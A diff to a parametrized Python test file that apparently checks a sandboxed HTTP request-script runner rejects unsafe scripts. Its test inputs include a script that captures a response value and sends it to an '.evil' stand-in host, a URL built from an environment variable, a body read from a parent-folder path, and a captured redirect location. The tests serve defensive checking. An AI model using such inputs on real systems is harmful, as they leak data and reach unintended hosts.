@@ -102,7 +102,11 @@ def test_options_of_the_session_count_and_its_certificate_does_not(shell, tmp_pa
         ("curl -x http://127.0.0.1:1 BASE/echo", "only the command line may set in a sandbox"),
         ("GET http://127.0.0.1:1/{{$env.HOME}}", "is not read in a sandbox"),
         ("POST /echo\n\n< ../x", "is outside of the script's folder"),
-        ("# @capture to = body $.url\nGET /echo\n###\nGET http://{{to}}.evil/", "are not allowed"),
+        ("# @capture to = body $.url\nGET /echo\n###\nGET http://{{to}}.evil/", "write / before {{to}}"),
+        (
+            "# @no-redirect\n# @capture to = header location\nGET /redirect-to?url=http://127.0.0.1:1/\n###\nGET {{to}}",
+            "are not allowed",
+        ),
         ("GET /redirect-to?url=http://127.0.0.1:1/", "are not allowed"),
     ],
 )
